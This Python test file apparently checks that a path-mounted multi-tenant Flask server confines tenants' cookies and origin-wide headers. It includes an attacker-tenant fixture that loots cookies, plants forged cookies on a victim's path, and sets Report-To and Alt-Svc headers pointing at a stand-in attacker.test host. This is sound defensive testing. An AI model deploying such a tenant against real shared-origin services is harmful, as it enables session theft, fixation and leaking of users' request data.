"""Attack round 15: what a tenant's answer says about the origin it shares
with other tenants (main 2702ce2).

Tenants mounted by path (``/acme/...``) share one origin: one cookie jar,
one service-worker registry, one set of origin-wide policies in every
browser that visits the server. The session cookie was confined to the
tenant's mount (``Path=/acme``, no ``Domain``), but nothing else was:

1. ``response.set_cookie("token", ...)`` (Flask's default ``path="/"``), a
   ``Set-Cookie`` header the tenant writes itself, and a process tenant's
   own Flask session cookie (Flask sends ``Path=/``) went out as the tenant
   wrote them: the browser then sent them with every request to every other
   tenant, which read them in ``request.cookies`` (a victim's login token,
   a process tenant's whole signed session, replayable); and a tenant could
   plant a cookie on another tenant's path (``path="/victim"``: session
   fixation, a victim's session cookie shadowed). Class: a header whose
   scope is the origin, sent for one tenant of it.
2. ``Service-Worker-Allowed: /`` on a tenant's script lets that tenant
   register a service worker whose scope is the whole origin: it answers
   every other tenant's pages in that browser from then on. ``Clear-Site-Data``
   clears every tenant's cookies and storage; ``NEL``/``Report-To`` send
   reports of every other tenant's requests (their URLs) to the tenant's
   collector; ``Alt-Svc`` moves the whole origin. Same class.

Fix, one place for both tiers: :mod:`muxserver.http.origin_scope`, applied
by :meth:`muxserver.app.MuxApp.serve` to every tenant answer: a cookie's
``Path`` is confined to the mount as the session cookie's is, its
``Domain`` dropped; ``Service-Worker-Allowed`` is confined the same way;
origin-wide policies are dropped for a tenant mounted by path.
"""

from __future__ import annotations

import pytest

from tests.test_process_tier import server_for

#: A tenant whose login sets a cookie as Flask's docs do (``path="/"`` by
#: default), and which echoes what cookies its own pages receive.
VICTIM = '''
from flask import Flask, make_response, request
app = Flask(__name__)


@app.route("/login")
def login():
    response = make_response("logged in")
    response.set_cookie("token", "victim-secret-token")
    return response


@app.route("/whoami")
def whoami():
    return {"cookies": dict(request.cookies)}
'''

#: A tenant that reads every cookie its pages receive, and plants cookies
#: (and origin-wide headers) on other tenants' paths.
ATTACKER = '''
from flask import Flask, Response, make_response, request
app = Flask(__name__)


@app.route("/")
def loot():
    return {"cookies": dict(request.cookies)}


@app.route("/plant")
def plant():
    response = make_response("planted")
    response.set_cookie("session", "forged-by-attacker", path="/victim")
    response.set_cookie("token", "forged-token", path="/victim/", domain="127.0.0.1")
    response.headers.add("Set-Cookie", "raw=forged-raw; Path=/; HttpOnly")
    response.headers.add("Set-Cookie", "bare=forged-bare; path=/victim/whoami")
    return response


@app.route("/sw.js")
def worker():
    return Response("self.onfetch = e => e.respondWith(fetch(e.request));",
                    mimetype="text/javascript",
                    headers={"Service-Worker-Allowed": "/",
                             "Clear-Site-Data": '"cookies", "storage"',
                             "NEL": '{"report_to": "x", "max_age": 86400, "success_fraction": 1.0}',
                             "Report-To": '{"group": "x", "max_age": 86400, '
                                          '"endpoints": [{"url": "https://attacker.test/r"}]}',
                             "Alt-Svc": 'h2="attacker.test:443"; ma=86400'})
'''


@pytest.fixture
def shared_origin(tenants, live):
    tenants.add("victim", {"app.py": VICTIM})
    tenants.add("attacker", {"app.py": ATTACKER})
    return live()


def test_a_tenants_cookie_is_not_sent_to_another_tenant(shared_origin):
    """The victim's cookie (Flask's default path) never reaches the attacker's pages."""
    browser = shared_origin  # requests.Session: a cookie jar that follows Path
    assert browser.get("/victim/login").status_code == 200
    sent = [c for c in browser.session.cookies if c.name == "token"]
    assert [c.path for c in sent] == ["/victim"], [(c.name, c.path) for c in sent]
    assert browser.get("/victim/whoami").json()["cookies"] == {"token": "victim-secret-token"}
    looted = browser.get("/attacker/").json()["cookies"]
    assert "token" not in looted, looted


def test_a_tenant_cannot_plant_a_cookie_on_another_tenants_path(shared_origin):
    browser = shared_origin
    answer = browser.get("/attacker/plant")
    assert answer.status_code == 200, answer.text
    cookies = answer.raw.headers.getlist("Set-Cookie")
    assert len(cookies) == 4, cookies
    for cookie in cookies:
        attributes = [a.strip().lower() for a in cookie.split(";")[1:]]
        assert not any(a.startswith("domain") for a in attributes), cookie
        paths = [a.partition("=")[2] for a in attributes if a.startswith("path")]
        assert paths and all(p == "/attacker" or p.startswith("/attacker/") for p in paths), cookie
    seen = browser.get("/victim/whoami").json()["cookies"]
    assert not any("forged" in value for value in seen.values()), seen


def test_origin_wide_headers_stay_with_the_tenant(shared_origin):
    answer = shared_origin.get("/attacker/sw.js")
    assert answer.status_code == 200, answer.text
    assert answer.headers.get("Service-Worker-Allowed") == "/attacker", answer.headers
    for name in ("Clear-Site-Data", "NEL", "Report-To", "Alt-Svc"):
        assert name not in answer.headers, (name, answer.headers)


#: A process tenant (plain Flask) with a session: Flask writes its cookie
#: with ``Path=/`` (APPLICATION_ROOT), whatever SCRIPT_NAME says.
PROCESS_VICTIM = {
    "tenant.toml": 'runtime = "process"\n',
    "app.py": """\
        from flask import Flask, session
        app = Flask(__name__)
        app.secret_key = "victim's own key"

        @app.route("/login")
        def login():
            session["user"] = "alice"
            return "logged in"

        @app.route("/me")
        def me():
            return session.get("user", "nobody")
        """,
}


def test_a_process_tenants_flask_session_is_not_sent_to_another_tenant(tmp_path):
    server = server_for(tmp_path, {"pvictim": PROCESS_VICTIM,
                                   "attacker": {"app.py": ATTACKER, "tenant.toml":
                                                'runtime = "sandbox"\n'}},
                        process_tenants=["pvictim"])
    try:
        assert server.get("/pvictim/login").status_code == 200
        assert server.get("/pvictim/me").text == "alice"  # the session still works
        looted = server.get("/attacker/").json()["cookies"]
        assert "session" not in looted, looted
    finally:
        server.app.close_processes()
        server.stop()
